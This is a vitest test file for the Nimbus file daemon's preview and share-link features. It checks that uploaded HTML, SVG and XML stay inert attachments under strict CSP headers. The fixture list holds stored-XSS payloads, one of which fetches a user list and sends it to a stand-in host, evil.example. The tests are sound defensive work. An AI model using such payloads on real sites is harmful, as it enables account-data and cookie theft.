/**
 * Previews (docs/explorer.md "Previews and thumbnails"): `files.download` with `inline=true`
 * shows images, PDF, text, audio and video in the browser under a sandboxing CSP, and
 * never markup (a stored-XSS attempt stays an attachment); a share link shows a browser a
 * small page for an image or a PDF, and every other client the bytes exactly as before.
 */
import { readFile, symlink, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { attachment, INLINE_CSP, INLINE_MEDIA_CSP } from '../../daemon/http/download.js';
import { PAGE_CSP } from '../../daemon/http/pages.js';
import { SHARE_PAGE_CSP } from '../../daemon/http/share-pages.js';
import { INERT_CSP } from '../../daemon/http/security.js';
import { api, apiLoose, signIn } from '../helpers/api.js';
import { onDisk } from '../helpers/backend.js';
import { createUser, snapshotState, startTestDaemon, upload, type TestDaemon } from '../helpers/daemon.js';

const BROWSER_ACCEPT = 'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8';
/** What DaneeCloud's bot sends: axios's default Accept. */
const AXIOS_ACCEPT = 'application/json, text/plain, */*';
const IMG_ACCEPT = 'image/avif,image/webp,image/apng,image/svg+xml,image/*,*/*;q=0.8';

const PDF = readFile(path.join(import.meta.dirname, '..', 'fixtures', 'previews', 'tiny.pdf'));
const png = () =>
  sharp({ create: { width: 40, height: 30, channels: 3, background: '#c33' } })
    .png()
    .toBuffer();
/** A few bytes that stand in for audio or video: the daemon serves them, it never decodes them. */
const MEDIA = Buffer.from(Array.from({ length: 4096 }, (_, i) => i % 251));

let t: TestDaemon;
beforeAll(async () => {
  t = await startTestDaemon();
  await createUser(t, 'ana');
  await createUser(t, 'bob');
});
afterAll(() => t.close());

/** GET (or HEAD) a path as raw bytes, with the admin key unless `key` is null. */
async function fetchBytes(pathAndQuery: string, init: { method?: string; headers?: Record<string, string>; key?: string | null } = {}) {
  const headers: Record<string, string> = { ...init.headers };
  if (init.key !== null) headers['API-Key'] = init.key ?? t.key;
  const res = await fetch(`${t.url}${pathAndQuery}`, { method: init.method ?? 'GET', headers });
  return { status: res.status, headers: res.headers, bytes: Buffer.from(await res.arrayBuffer()) };
}

const download = (username: string, file: string, extra: Record<string, string> = {}, init: Parameters<typeof fetchBytes>[1] = {}) =>
  fetchBytes(`/api/files/download?${new URLSearchParams({ username, file, ...extra })}`, init);

async function share(username: string, file: string): Promise<string> {
  const res = await api(t, 'files.share', { username, file });
  expect(res.status).toBe(201);
  return new URL(res.body.file.shareUrl!).pathname;
}

describe('files.download with inline=true', () => {
  const previewable: [string, string, string, () => Promise<Buffer> | Buffer][] = [
    ['photo.png', 'image/png', INLINE_CSP, png],
    [
      'photo.jpg',
      'image/jpeg',
      INLINE_CSP,
      () =>
        sharp({ create: { width: 8, height: 8, channels: 3, background: '#333' } })
          .jpeg()
          .toBuffer(),
    ],
    [
      'anim.gif',
      'image/gif',
      INLINE_CSP,
      () =>
        sharp({ create: { width: 8, height: 8, channels: 3, background: '#333' } })
          .gif()
          .toBuffer(),
    ],
    [
      'pic.webp',
      'image/webp',
      INLINE_CSP,
      () =>
        sharp({ create: { width: 8, height: 8, channels: 3, background: '#333' } })
          .webp()
          .toBuffer(),
    ],
    ['paper.pdf', 'application/pdf', INLINE_CSP, () => PDF],
    ['notes.txt', 'text/plain; charset=utf-8', INLINE_CSP, () => Buffer.from('hello\n')],
    ['readme.md', 'text/plain; charset=utf-8', INLINE_CSP, () => Buffer.from('# Title\n')],
    ['table.csv', 'text/plain; charset=utf-8', INLINE_CSP, () => Buffer.from('a,b\n1,2\n')],
    ['app.js', 'text/plain; charset=utf-8', INLINE_CSP, () => Buffer.from('alert(1)\n')],
    ['clip.mp4', 'video/mp4', INLINE_MEDIA_CSP, () => MEDIA],
    ['clip.webm', 'video/webm', INLINE_MEDIA_CSP, () => MEDIA],
    ['song.mp3', 'audio/mpeg', INLINE_MEDIA_CSP, () => MEDIA],
    ['tone.wav', 'audio/wav', INLINE_MEDIA_CSP, () => MEDIA],
    ['voice.ogg', 'audio/ogg', INLINE_MEDIA_CSP, () => MEDIA],
  ];

  it.each(previewable)('serves %s inline as %s, nosniff, under a sandboxing CSP', async (name, type, csp, content) => {
    const bytes = await content();
    await upload(t, 'ana', name, bytes);
    const res = await download('ana', name, { inline: 'true' });
    expect(res.status).toBe(200);
    expect(res.bytes.equals(bytes)).toBe(true);
    expect(res.headers.get('content-type')).toBe(type);
    expect(res.headers.get('content-disposition')).toBe(`inline; filename="${name}"; filename*=UTF-8''${name}`);
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    expect(res.headers.get('content-security-policy')).toBe(csp);
    expect(res.headers.get('x-frame-options')).toBe('SAMEORIGIN');
    expect(res.headers.get('accept-ranges')).toBe('bytes');
    // Without inline (or with inline=false) the same file is an attachment, as before.
    for (const extra of [{}, { inline: 'false' }] as Record<string, string>[]) {
      const plain = await download('ana', name, extra);
      expect(plain.headers.get('content-disposition')).toMatch(/^attachment;/);
      expect(plain.headers.get('content-security-policy')).toBe(INERT_CSP);
      expect(plain.headers.get('x-frame-options')).toBe('DENY');
    }
  });

  const markup: [string, string][] = [
    ['page.html', '<script>fetch("/api/user/all").then(r=>r.text()).then(t=>location="//evil.example/?"+t)</script>'],
    ['page.htm', '<img src=x onerror="alert(document.cookie)">'],
    ['page.xhtml', '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>'],
    ['data.xml', '<?xml version="1.0"?><?xml-stylesheet href="evil.xsl"?><a/>'],
    ['logo.svg', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'],
    ['logo.svgz', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
    ['blob.bin', '<script>alert(1)</script>'],
    ['no-extension', '<script>alert(1)</script>'],
    ['report.docx', 'PK\u0003\u0004 not really'],
  ];

  it.each(markup)('keeps %s an attachment under the inert CSP even with inline=true (stored XSS)', async (name, content) => {
    await upload(t, 'ana', name, content);
    const res = await download('ana', name, { inline: 'true' });
    expect(res.status).toBe(200);
    expect(res.bytes.toString()).toBe(content);
    expect(res.headers.get('content-disposition')).toMatch(/^attachment;/);
    expect(res.headers.get('content-security-policy')).toBe(INERT_CSP);
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    expect(res.headers.get('x-frame-options')).toBe('DENY');
  });

  it('serves HTML hidden behind a text name as plain text, never as HTML', async () => {
    await upload(t, 'ana', 'looks-like.txt', '<!doctype html><script>alert(1)</script>');
    const res = await download('ana', 'looks-like.txt', { inline: 'true' });
    expect(res.headers.get('content-type')).toBe('text/plain; charset=utf-8');
    expect(res.headers.get('content-security-policy')).toContain('sandbox');
  });

  it.each([
    ['clip.mp4', 'video/mp4'],
    ['song.mp3', 'audio/mpeg'],
  ])('seeks through %s inline with Range (206), and HEAD answers the same headers', async (name, type) => {
    await upload(t, 'ana', `seek-${name}`, MEDIA);
    const part = await download('ana', `seek-${name}`, { inline: 'true' }, { headers: { Range: 'bytes=1000-1999' } });
    expect(part.status).toBe(206);
    expect(part.headers.get('content-range')).toBe(`bytes 1000-1999/${MEDIA.length}`);
    expect(part.bytes.equals(MEDIA.subarray(1000, 2000))).toBe(true);
    expect(part.headers.get('content-type')).toBe(type);
    expect(part.headers.get('content-disposition')).toMatch(/^inline;/);
    const tail = await download('ana', `seek-${name}`, { inline: 'true' }, { headers: { Range: 'bytes=-100' } });
    expect(tail.status).toBe(206);
    expect(tail.bytes.equals(MEDIA.subarray(MEDIA.length - 100))).toBe(true);
    const head = await download('ana', `seek-${name}`, { inline: 'true' }, { method: 'HEAD', headers: { Range: 'bytes=0-9' } });
    expect(head.status).toBe(206);
    expect(head.headers.get('content-length')).toBe('10');
    expect(head.headers.get('content-disposition')).toMatch(/^inline;/);
    expect(head.headers.get('content-security-policy')).toBe(INLINE_MEDIA_CSP);
    const past = await download('ana', `seek-${name}`, { inline: 'true' }, { headers: { Range: `bytes=${MEDIA.length}-` } });
    expect(past.status).toBe(416);
  });

  it('keeps a file name with quotes and non-ASCII intact and safe in the inline header', async () => {
    const name = "Zpráva č. 1 'x' (50%) 日本.txt";
    await upload(t, 'ana', name, 'x');
    const res = await download('ana', name, { inline: 'true' });
    // The same header as a download's, but inline.
    expect(res.headers.get('content-disposition')).toBe(attachment(name).replace(/^attachment;/, 'inline;'));
    expect(res.headers.get('content-disposition')).toMatch(
      /^inline; filename="Zpr_va _. 1 'x' \(50_\) __.txt"; filename\*=UTF-8''Zpr%C3%A1va/,
    );
  });

  it('is 400 for an inline that is not a boolean, and changes nothing', async () => {
    const before = await snapshotState(t);
    const res = await apiLoose(t, 'files.download', { username: 'ana', file: 'notes.txt', inline: 'yes' });
    expect(res.status).toBe(400);
    expect(await snapshotState(t)).toEqual(before);
  });

  it('answers a signed-in user their own file inline and 404 for another user’s', async () => {
    await upload(t, 'bob', 'bob.png', await png());
    const bob = await signIn(t, 'bob');
    const own = await download('bob', 'bob.png', { inline: 'true' }, { key: null, headers: bob.headers });
    expect(own.status).toBe(200);
    expect(own.headers.get('content-disposition')).toMatch(/^inline;/);
    const other = await download('ana', 'photo.png', { inline: 'true' }, { key: null, headers: bob.headers });
    expect(other.status).toBe(404);
    expect(JSON.parse(other.bytes.toString()).code).toBe('user_not_found');
  });

  // A symlink another program puts in the storage folder: only an embedded daemon has one.
  onDisk(() => {
    it('follows no symlink put in the storage folder', async () => {
      const outside = path.join(os.tmpdir(), `nimbus-preview-secret-${process.pid}.txt`);
      await writeFile(outside, 'secret');
      await symlink(outside, path.join(t.storageDir, 'ana', 'link.txt'));
      const res = await download('ana', 'link.txt', { inline: 'true' });
      expect(res.status).toBe(404);
      expect(res.bytes.toString()).not.toContain('secret');
    });
  });
});

describe('share links: /s/{token}', () => {
  let imageLink: string;
  let pdfLink: string;
  beforeAll(async () => {
    await upload(t, 'ana', 'holiday.png', await png());
    imageLink = await share('ana', 'holiday.png');
    await upload(t, 'ana', 'paper-shared.pdf', await PDF);
    pdfLink = await share('ana', 'paper-shared.pdf');
  });

  it('shows a browser a page with the image and a download button, under a strict CSP', async () => {
    const res = await fetchBytes(imageLink, { key: null, headers: { Accept: BROWSER_ACCEPT } });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/html/);
    expect(res.headers.get('content-security-policy')).toBe(SHARE_PAGE_CSP);
    expect(res.headers.get('content-disposition')).toBeNull();
    const html = res.bytes.toString();
    expect(html).toContain('<title>holiday.png — Nimbus</title>');
    expect(html).toContain(`<img src="${imageLink}?inline=true" alt="holiday.png">`);
    expect(html).toContain(`href="${imageLink}?download=true"`);
    expect(html).not.toMatch(/<script/i);
  });

  it('shows a browser a page with the PDF in the browser’s viewer', async () => {
    const res = await fetchBytes(pdfLink, { key: null, headers: { Accept: BROWSER_ACCEPT } });
    expect(res.status).toBe(200);
    const html = res.bytes.toString();
    expect(html).toContain(`<iframe src="${pdfLink}?inline=true" title="paper-shared.pdf"></iframe>`);
    expect(html).toContain(`href="${pdfLink}?download=true"`);
  });

  it('answers ?inline=true with the bytes inline and ?download=true with an attachment, even to a browser', async () => {
    const inline = await fetchBytes(`${imageLink}?inline=true`, { key: null, headers: { Accept: BROWSER_ACCEPT } });
    expect(inline.status).toBe(200);
    expect(inline.bytes.equals(await png())).toBe(true);
    expect(inline.headers.get('content-type')).toBe('image/png');
    expect(inline.headers.get('content-disposition')).toMatch(/^inline;/);
    expect(inline.headers.get('content-security-policy')).toBe(INLINE_CSP);
    const pdf = await fetchBytes(`${pdfLink}?inline=true`, { key: null, headers: { Accept: BROWSER_ACCEPT } });
    expect(pdf.headers.get('content-type')).toBe('application/pdf');
    expect(pdf.headers.get('x-frame-options')).toBe('SAMEORIGIN');
    for (const query of ['?download=true', '?download=true&inline=true']) {
      const res = await fetchBytes(`${imageLink}${query}`, { key: null, headers: { Accept: BROWSER_ACCEPT } });
      expect(res.status, query).toBe(200);
      expect(res.headers.get('content-disposition'), query).toMatch(/^attachment;/);
      expect(res.headers.get('content-security-policy'), query).toBe(INERT_CSP);
    }
  });

  it.each([
    ['DaneeCloud’s bot (axios defaults)', { Accept: AXIOS_ACCEPT }],
    ['curl', { Accept: '*/*' }],
    ['a client that sends no Accept', {} as Record<string, string>],
    ['JSON', { Accept: 'application/json' }],
    ['an <img> on a page', { Accept: IMG_ACCEPT }],
  ])('gives %s the bytes exactly as before', async (_who, headers) => {
    for (const [link, bytes] of [
      [imageLink, await png()],
      [pdfLink, await PDF],
    ] as const) {
      const res = await fetchBytes(link, { key: null, headers });
      expect(res.status).toBe(200);
      expect(res.bytes.equals(bytes)).toBe(true);
      expect(res.headers.get('content-disposition')).toMatch(/^attachment;/);
      expect(res.headers.get('content-security-policy')).toBe(INERT_CSP);
      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    }
  });

  it.each([
    ['text', 'shared.txt', 'plain words', 'iframe'],
    ['audio', 'shared.mp3', 'ID3 not really', 'audio'],
    ['video', 'shared.mp4', 'not really a film', 'video'],
  ])(
    'gives a browser the preview page of %s (issue 27), its bytes inline in the page and as a download',
    async (_what, name, content, tag) => {
      await upload(t, 'ana', name, content);
      const link = await share('ana', name);
      const page = await fetchBytes(link, { key: null, headers: { Accept: BROWSER_ACCEPT } });
      expect(page.headers.get('content-type')).toMatch(/^text\/html/);
      expect(page.headers.get('content-security-policy')).toBe(SHARE_PAGE_CSP);
      expect(page.bytes.toString()).toMatch(new RegExp(`<${tag} [^>]*src="/s/[^"]+\\?inline=true"`));
      const inline = await fetchBytes(`${link}?inline=true`, { key: null, headers: { Accept: BROWSER_ACCEPT } });
      expect(inline.headers.get('content-disposition')).toMatch(/^inline;/);
      const bytes = await fetchBytes(`${link}?download=true`, { key: null, headers: { Accept: BROWSER_ACCEPT } });
      expect(bytes.bytes.toString()).toBe(content);
      expect(bytes.headers.get('content-disposition')).toMatch(/^attachment;/);
    },
  );

  it.each([
    ['HTML', 'shared.html', '<script>alert(document.domain)</script>'],
    ['SVG', 'shared.svg', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
    ['an archive', 'shared.zip', 'PK\u0003\u0004'],
  ])(
    'gives a browser the bytes of %s as an attachment (no page), and inline=true keeps markup an attachment',
    async (_what, name, content) => {
      await upload(t, 'ana', name, content);
      const link = await share('ana', name);
      const res = await fetchBytes(link, { key: null, headers: { Accept: BROWSER_ACCEPT } });
      expect(res.status).toBe(200);
      expect(res.bytes.toString()).toBe(content);
      expect(res.headers.get('content-disposition')).toMatch(/^attachment;/);
      const inline = await fetchBytes(`${link}?inline=true`, { key: null, headers: { Accept: BROWSER_ACCEPT } });
      if (name.endsWith('.txt')) expect(inline.headers.get('content-type')).toBe('text/plain; charset=utf-8');
      else expect(inline.headers.get('content-disposition')).toMatch(/^attachment;/);
    },
  );

  it('escapes a hostile file name in the page', async () => {
    // Names cannot hold < > " (shared/validation.ts); what they can hold is escaped all the same.
    const name = `Tom & Jerry's <b>.png`.replace(/[<>]/g, '');
    await upload(t, 'ana', name, await png());
    const link = await share('ana', name);
    const html = (await fetchBytes(link, { key: null, headers: { Accept: BROWSER_ACCEPT } })).bytes.toString();
    expect(html).toContain('<title>Tom &#38; Jerry&#39;s b.png — Nimbus</title>');
    expect(html).toContain('alt="Tom &#38; Jerry&#39;s b.png"');
    expect(html).not.toContain("Jerry's");
  });

  it('answers HEAD from a browser with the page’s headers', async () => {
    const res = await fetchBytes(imageLink, { method: 'HEAD', key: null, headers: { Accept: BROWSER_ACCEPT } });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/html/);
    expect(res.bytes.length).toBe(0);
  });

  it('shows the dead-link page once the image is unshared, and its bytes are gone too', async () => {
    await upload(t, 'ana', 'brief.png', await png());
    const link = await share('ana', 'brief.png');
    await api(t, 'files.noshare', { username: 'ana', file: 'brief.png' });
    const page = await fetchBytes(link, { key: null, headers: { Accept: BROWSER_ACCEPT } });
    expect(page.status).toBe(404);
    expect(page.headers.get('content-security-policy')).toBe(PAGE_CSP);
    for (const query of ['?inline=true', '?download=true']) expect((await fetchBytes(`${link}${query}`, { key: null })).status).toBe(404);
  });

  it('is 400 for an inline or download that is not a boolean', async () => {
    for (const query of ['?inline=yes', '?download=maybe', '?inline=true&inline=false'])
      expect((await fetchBytes(`${imageLink}${query}`, { key: null, headers: { Accept: BROWSER_ACCEPT } })).status, query).toBe(400);
  });
});
